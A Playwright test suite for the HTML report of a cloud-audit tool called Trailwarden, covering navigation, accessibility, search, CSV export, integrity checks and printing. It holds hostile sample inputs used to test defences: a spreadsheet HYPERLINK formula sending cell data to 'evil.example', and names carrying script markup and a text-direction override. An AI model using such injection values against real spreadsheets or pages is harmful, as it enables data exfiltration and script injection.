import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import os from 'node:os';
import path from 'node:path';

import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';

import { exampleReport } from '../support/example-report.ts';
import { chromium } from '../support/needs.ts';
import { htmlReport } from '../report/html/report-text.ts';
import { openBrowser, openReport, type OpenReport } from './page.ts';

const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

/** Every view, and a finding of each kind: a chain that breaks, one that is not known, an unseen account. */
const views = [
  '#/overview',
  '#/packs',
  '#/pack/a-framework-1',
  '#/pack/our-own-1',
  '#/control/a-framework-1%2F1.3',
  '#/control/a-framework-1%2F1.5',
  '#/map',
  '#/findings',
  '#/findings?mode=table',
  '#/findings?q=verdict%3Afail',
  '#/rules',
  '#/rule/monitor-root-usage',
  '#/accounts',
  '#/account/111122223333',
  '#/unknowns',
  '#/waivers',
  '#/coverage',
  '#/document?q=severity%3Acritical',
  '#/nowhere',
];

describe.skipIf(chromium() === undefined)('the HTML report in Chromium', () => {
  let browser: Browser;
  let folder: string;
  let file: string;
  const example = exampleReport();
  const findings = [...example.findings()];
  const chains = ['fail', 'unknown', 'pass'].map(
    (verdict) =>
      1 +
      findings.findIndex((finding) => finding.rule === 'monitor-root-usage' && finding.verdict === verdict),
  );

  beforeAll(async () => {
    folder = mkdtempSync(path.join(os.tmpdir(), 'trailwarden-html-'));
    file = path.join(folder, 'report.html');
    writeFileSync(file, await htmlReport(example.header, findings, example.totals()));
    browser = await openBrowser();
  });
  afterAll(async () => {
    await browser.close();
    rmSync(folder, { recursive: true });
  });

  async function closing(report: OpenReport): Promise<void> {
    expect(report.problems).toEqual([]);
    expect(report.requests).toEqual([]);
    await report.page.close();
  }

  test('opens from disk, shows every view, and asks nobody anything', async () => {
    const report = await openReport(browser, file);
    for (const view of [...views, ...chains.map((number) => `#/finding/${number}`)]) {
      await report.show(view);
      expect(await report.page.locator('main h1').textContent(), view).not.toBe('');
      expect(await report.page.locator('.problem').count(), view).toBe(0);
    }
    await report.show('#/overview');
    expect(await report.page.locator('h1').textContent()).toBe('Organization o-examplecorp');
    expect(await report.page.title()).toBe('Organization o-examplecorp · o-examplecorp · Trailwarden');
    mkdirSync('out', { recursive: true });
    await report.page.screenshot({ path: 'out/report-overview.png', fullPage: true });
    await closing(report);
  });

  test('leads from the score of a framework to its controls, their rules and findings', async () => {
    const report = await openReport(browser, file, { address: '#/overview' });
    const { page } = report;
    await page.getByRole('link', { name: 'CIS AWS Foundations Benchmark v5.0.0' }).click();
    expect(await page.locator('.summary-line').innerText()).toMatch(/66 %\s*of 3/);
    await page.getByRole('link', { name: '1.3', exact: true }).click();
    expect(await page.locator('h1').innerText()).toBe('1.3 CIS AWS Foundations Benchmark v5.0.0');
    expect(await page.locator('.summary-line').innerText()).toMatch(/Failed\s+\(every failure is waived\)/);
    await page.getByRole('link', { name: 'monitor-root-usage' }).click();
    await page.getByText('Controls that it bears on').click();
    await page.getByRole('link', { name: '1.2', exact: true }).first().click();
    expect(await page.locator('.summary-line').innerText()).toMatch(
      /Satisfied\s+\(in the part that is judged\)/,
    );
    expect(await page.locator('main').innerText()).toContain(
      'The rules decide a part of what the control asks',
    );
    await closing(report);
  });

  test('hostile names stay text, and no view is wider than the window', async () => {
    for (const width of [390, 820, 1440]) {
      const report = await openReport(browser, file, { viewport: { width, height: 900 } });
      for (const view of [...views, '#/findings?q=account%3ASandbox&mode=table', '#/account/222233409190']) {
        await report.show(view);
        const size = (await report.page.evaluate(
          '[document.documentElement.scrollWidth, document.documentElement.clientWidth]',
        )) as [number, number];
        expect(size[0], `${view} at ${width}`).toBeLessThanOrEqual(size[1]);
      }
      expect(await report.page.evaluate('window.owned')).toBeUndefined();
      expect(await report.page.locator('main script, main img, main iframe').count()).toBe(0);
      await closing(report);
    }
    const report = await openReport(browser, file, { address: '#/account/222233409190' });
    expect(await report.page.locator('h1').textContent()).toBe('Sandbox <b>Ana</b> \\u{202e}anA\\u{202c}');
    await closing(report);
  });

  test('axe finds nothing to object to, light and dark', { timeout: 240_000 }, async () => {
    const all = [...views, ...chains.map((number) => `#/finding/${number}`)];
    for (const [colorScheme, rules, shown] of [
      ['light', ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'], all],
      // The dark page differs in nothing but its colours.
      ['dark', ['color-contrast'], all],
    ] as const) {
      const report = await openReport(browser, file, { colorScheme, bypassCSP: true });
      await report.page.evaluate(axe);
      for (const view of shown) {
        await report.show(view);
        if (view.startsWith('#/finding/'))
          await report.page.getByRole('heading', { name: 'Evidence' }).waitFor();
        const { violations, passes } = (await report.page.evaluate(
          `axe.run(document, { runOnly: ${JSON.stringify(rules)}, resultTypes: ['violations'] })
            .then(({ violations, passes }) => ({
              passes: passes.length,
              violations: violations.map(({ id, nodes }) => id + ': ' + nodes.map((node) => node.html.slice(0, 200)).join(' | ')),
            }))`,
        )) as { violations: string[]; passes: number };
        expect(violations, `${view}, ${colorScheme}`).toEqual([]);
        expect(passes, 'axe looked at the page').toBeGreaterThan(0);
      }
      await report.page.close();
    }
  });

  test('a finding shows its chain, the link that breaks, the witness and the evidence', async () => {
    const report = await openReport(browser, file, { address: `#/finding/${chains[0]}` });
    const { page } = report;
    await page.getByRole('heading', { name: 'Why' }).waitFor();
    const links = page.locator('.chain').first().locator('li');
    expect(await links.locator('.link-verdict').allTextContents()).toEqual([
      ' holds',
      ' holds',
      ' breaks here',
      ' Nobody is told this way',
    ]);
    expect(await page.getByRole('region', { name: 'Witness event' }).textContent()).toContain(
      'ScheduleKeyDeletion',
    );
    const finding = findings[(chains[0] ?? 0) - 1];
    expect(await page.locator('.facts').first().textContent()).toContain(finding?.fingerprint);
    const evidence = page.getByRole('table', { name: 'Recorded answers' });
    expect(await evidence.locator('tbody tr').count()).toBe(finding?.evidence.length);
    await page.getByRole('button', { name: 'Evidence 2' }).click();
    expect(await page.evaluate('document.activeElement.id')).toBe('evidence-2');
    await closing(report);
  });

  test('the search narrows the list, and its address opens the same view again', async () => {
    const report = await openReport(browser, file, { address: '#/findings' });
    const { page } = report;
    const status = page.getByRole('status').first();
    const expected = findings.filter(
      ({ rule, verdict, waiver }) =>
        rule === 'loggroup-retention-set' && verdict === 'fail' && waiver === null,
    ).length;
    await page.getByRole('searchbox').fill('rule:loggroup-retention-set');
    await page.getByRole('button', { name: /^Fail \d/ }).click();
    await expect.poll(() => status.textContent()).toBe(`${expected} of ${findings.length} findings`);
    const address = new URL(page.url()).hash;
    const other = await openReport(browser, file, { address });
    expect(await other.page.getByRole('status').first().textContent()).toBe(await status.textContent());
    await closing(other);

    // Words in a message, in a name, in a cause; and what is left out with a minus.
    for (const [query, count] of [
      [
        '"keeps events for ever" -retention-set',
        findings.filter((f) => f.rule === 'loggroup-retention-minimum' && f.message.includes('for ever'))
          .length,
      ],
      [
        'logs:DescribeLogGroups verdict:unknown',
        findings.filter((f) => f.verdict === 'unknown' && f.rule.startsWith('loggroup')).length,
      ],
      ['resource:"<script>"', findings.filter((f) => f.resource.name.includes('<script>')).length],
      [
        'arn:aws:logs:us-east-1:111122223333',
        findings.filter((f) => f.resource.id.startsWith('arn:aws:logs:us-east-1:111122223333')).length,
      ],
    ] as const) {
      await report.show(`#/findings?q=${encodeURIComponent(query)}`);
      expect(count, query).toBeGreaterThan(0);
      await expect
        .poll(() => status.textContent(), { message: query })
        .toBe(`${count} of ${findings.length} findings`);
    }
    await closing(report);
  });

  test('the list is walked with the keyboard alone', async () => {
    const report = await openReport(browser, file, { address: '#/findings' });
    const { page } = report;
    await page.locator('[data-row="0"] a').focus();
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('j');
    await expect
      .poll(() => page.evaluate('document.activeElement.closest("[data-row]")?.dataset.row'))
      .toBe('2');
    await page.keyboard.press('End');
    await expect
      .poll(() => page.evaluate('document.activeElement.closest("[data-row]")?.dataset.row'))
      .toBe(String(findings.length - 1));
    // Assistive technology hears the true number of the row, though few rows are in the page.
    expect(await page.evaluate('document.activeElement.closest("[role=row]").ariaRowIndex')).toBe(
      String(findings.length + 1),
    );
    expect(await page.getByRole('table', { name: 'Findings' }).getAttribute('aria-rowcount')).toBe(
      String(findings.length + 1),
    );
    expect(await page.locator('.list-inner [role=row]').count()).toBeLessThan(60);
    await page.keyboard.press('Home');
    await expect
      .poll(() => page.evaluate('document.activeElement.closest("[data-row]")?.dataset.row'))
      .toBe('0');
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { name: 'Why' }).waitFor();
    expect(await page.locator('.lead').textContent()).toContain('No running multi-region trail');
    await page.keyboard.press('Alt+s');
    await expect.poll(() => page.evaluate('document.activeElement.type')).toBe('search');
    await closing(report);
  });

  test('a sample is the same for the same seed', async () => {
    const report = await openReport(browser, file, { address: '#/findings?sample=5&seed=7&mode=table' });
    const numbers = async (): Promise<string[]> =>
      await report.page.locator('tbody td:first-child').allTextContents();
    const first = await numbers();
    expect(first).toHaveLength(5);
    await report.show('#/findings?sample=5&seed=8&mode=table');
    expect(await numbers()).not.toEqual(first);
    await report.show('#/findings?sample=5&seed=7&mode=table&sort=rule');
    expect((await numbers()).toSorted()).toEqual(first.toSorted());
    await closing(report);
  });

  test('CSV of a view holds every row and no formula', async () => {
    const report = await openReport(browser, file, { address: '#/findings?q=account%3ASandbox' });
    const [download] = await Promise.all([
      report.page.waitForEvent('download'),
      report.page.getByRole('button', { name: 'CSV' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe('findings.csv');
    const text = readFileSync(await download.path(), 'utf8');
    const account = findings.filter((finding) => finding.resource.account === '222233409190');
    expect(text.split('\r\n')).toHaveLength(account.length + 2);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
    expect(text).not.toMatch(/(^|,|\r\n)"?[=+@]/);
    await closing(report);
  });

  test('CSV of the overview holds its figures', async () => {
    const report = await openReport(browser, file);
    const [download] = await Promise.all([
      report.page.waitForEvent('download'),
      report.page.getByRole('button', { name: 'CSV' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe('overview.csv');
    const lines = readFileSync(await download.path(), 'utf8').split('\r\n');
    for (const verdict of ['pass', 'unknown', 'not-applicable'] as const) {
      const count = findings.filter((finding) => finding.verdict === verdict).length;
      const words = { pass: 'Pass', unknown: 'Unknown', 'not-applicable': 'Not applicable' };
      expect(lines).toContain(`Results,All findings,${words[verdict]},${count}`);
    }
    expect(lines.filter((line) => line.startsWith('Worst accounts,')).length).toBeGreaterThan(0);
    await closing(report);
  });

  test('the data can be checked against the printed digest', async () => {
    const report = await openReport(browser, file);
    await report.page.getByRole('button', { name: 'Check' }).click();
    const answer = report.page.getByRole('status');
    await expect.poll(() => answer.textContent()).toBe('The data is as it was written.');
    await closing(report);

    const html = readFileSync(file, 'utf8');
    const changed = path.join(folder, 'changed.html');
    // Other details under the same findings.
    writeFileSync(
      changed,
      html.replace(/id="tw-detail-0">\S+?</, 'id="tw-detail-0">H4sIAAAAAAAAA6uuBQBDv6ajAgAAAA==<'),
    );
    const other = await openReport(browser, changed);
    await other.page.getByRole('button', { name: 'Check' }).click();
    await expect
      .poll(() => other.page.getByRole('status').textContent())
      .toBe('The data was changed after it was written.');
    await closing(other);
  });

  test('a damaged file keeps its summary and says what is wrong', async () => {
    const damaged = path.join(folder, 'damaged.html');
    writeFileSync(damaged, readFileSync(file, 'utf8').replace('id="tw-rows-0"', 'id="tw-rows-none"'));
    const page = await browser.newPage();
    await page.goto(`file://${damaged}`);
    expect(await page.getByRole('alert').textContent()).toContain('block tw-rows-0 is missing');
    expect(await page.getByRole('heading', { name: 'What is worst' }).isVisible()).toBe(true);
    await page.close();
  });

  test('without JavaScript the summary is read', async () => {
    const report = await openReport(browser, file, { javaScriptEnabled: false });
    expect(await report.page.getByRole('heading', { level: 1 }).textContent()).toBe('Trailwarden report');
    expect(await report.page.getByRole('table', { name: 'Rules that ran' }).locator('tbody tr').count()).toBe(
      example.header.rules.length,
    );
    await report.page.screenshot({ path: 'out/report-without-script.png', fullPage: true });
    await closing(report);
  });

  test('prints as a document with cover, scope and findings', async () => {
    const report = await openReport(browser, file, { address: '#/document?q=verdict%3Afail' });
    await report.page.emulateMedia({ media: 'print' });
    expect(await report.page.getByRole('navigation').count()).toBe(0);
    expect(await report.page.getByText('Snapshot root hash (SHA-256)').isVisible()).toBe(true);
    const failures = findings.filter((finding) => finding.verdict === 'fail').length;
    expect(await report.page.locator('.findings-table tbody tr').count()).toBe(failures);
    const pdf = await report.page.pdf({ preferCSSPageSize: true, path: 'out/report.pdf' });
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    await closing(report);
  });
});
